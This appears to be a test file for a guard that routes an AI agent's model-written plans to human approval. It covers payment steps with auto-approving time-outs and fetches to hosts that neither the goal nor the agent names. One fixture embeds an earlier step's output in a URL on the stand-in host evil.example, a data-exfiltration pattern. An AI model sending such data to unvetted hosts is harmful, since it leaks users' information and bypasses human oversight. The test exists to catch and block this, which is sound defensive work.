import { expect, test } from 'vitest';
import { planSchema } from '../../contracts/plan.js';
import { guardPlan } from './model-made-plan.js';

const guarded = (steps: object[], hosts: string[] = []) =>
  guardPlan(planSchema.parse({ steps }), { agent: { hosts }, goal: 'Read https://good.example/page' }).steps;
const fetching = (url: string, more: object = {}) => ({
  id: 'a',
  tool: 'http_fetch',
  args: { url },
  ...more,
});

test('no time-out approves in a person’s place', () => {
  const approval = { timeoutSeconds: 1, onTimeout: 'approve' as const };
  const [noted, plain] = guarded([
    { id: 'a', tool: 'pay', approval: { ...approval, note: 'pays' } },
    { id: 'b', tool: 'pay', approval },
  ]);
  expect(noted?.approval).toEqual({ note: 'pays' });
  expect(plain?.approval).toBe(true);
});

test('a host that the goal or the agent names is read; every other waits for a person', () => {
  const steps = guarded(
    [
      fetching('https://good.example/other?q=1'),
      fetching('https://api.mine.example/'),
      fetching('https://evil.example/?q={{steps.a.output}}'),
      fetching('{{steps.a.output.url}}'),
      fetching('https://good.example{{steps.a.output}}'),
      fetching('https://evil.example/', { approval: { timeoutSeconds: 1, onTimeout: 'approve' } }),
    ].map((step, i) => ({ ...step, id: `s${i}` })),
    ['*.mine.example'],
  );
  expect(steps.map(({ approval }) => approval)).toEqual([
    undefined,
    undefined,
    { note: 'Neither the goal nor the agent names the host evil.example' },
    { note: 'Where it reads from is decided by an earlier step.' },
    { note: 'Where it reads from is decided by an earlier step.' },
    { note: 'Neither the goal nor the agent names the host evil.example' },
  ]);
});
